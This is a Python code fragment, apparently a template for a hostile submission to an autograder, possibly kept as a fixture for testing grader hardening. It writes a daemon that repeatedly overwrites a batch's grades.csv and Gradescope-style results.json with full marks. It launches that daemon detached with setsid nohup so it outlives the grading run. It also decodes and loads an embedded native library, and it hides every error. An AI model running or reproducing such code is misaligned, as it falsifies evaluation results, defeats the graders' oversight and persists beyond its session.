import base64 as _base64
import importlib.machinery as _machinery
import importlib.util as _util

_DAEMON = r'''
import csv, io, json, os, sys, time
targets = sys.argv[1:]  # the batch's grades.csv, or candidates for Gradescope's results.json
end = time.time() + 45
while time.time() < end:
    time.sleep(0.3)
    for path in targets:
        try:
            if path.endswith(".csv"):
                rows = list(csv.reader(open(path)))
                if rows and any(row[4] != "22" for row in rows[1:]):
                    for row in rows[1:]:
                        row[1:6] = ["10", "5", "7", "22", "passed"]
                    buffer = io.StringIO()
                    csv.writer(buffer).writerows(rows)
                    open(path, "w").write(buffer.getvalue())
            elif os.path.getsize(path) > 0 and '"score": 22' not in open(path).read():
                time.sleep(1)
                data = json.load(open(path))
                data["score"] = 22
                json.dump(data, open(path, "w"))
        except Exception:
            pass
'''
try:
    open("hogkit_hostile_daemon.py", "w").write(_DAEMON)
    _results = _hostile_results_folder()
    _targets = [_os.path.join(_results, "..", "grades.csv")] if _results else []
    _targets += [_os.path.join(root, "..", "results", "results.json") for root in _hostile_roots()]
    _args = " ".join(_targets)
    open("native_cmd.txt", "w").write(
        f"cp hogkit_hostile_daemon.py /tmp/hogkit-hostile-daemon.py; cd /tmp; "
        f"setsid nohup {_sys.executable} /tmp/hogkit-hostile-daemon.py {_args} >/dev/null 2>&1 &")
    open("evil_native.so", "wb").write(_base64.b64decode("{{NATIVE_SO_B64}}"))
    _path = _os.path.abspath("evil_native.so")
    _spec = _util.spec_from_file_location("evil_native", _path,
                                          loader=_machinery.ExtensionFileLoader("evil_native", _path))
    _util.module_from_spec(_spec)
except BaseException:
    pass
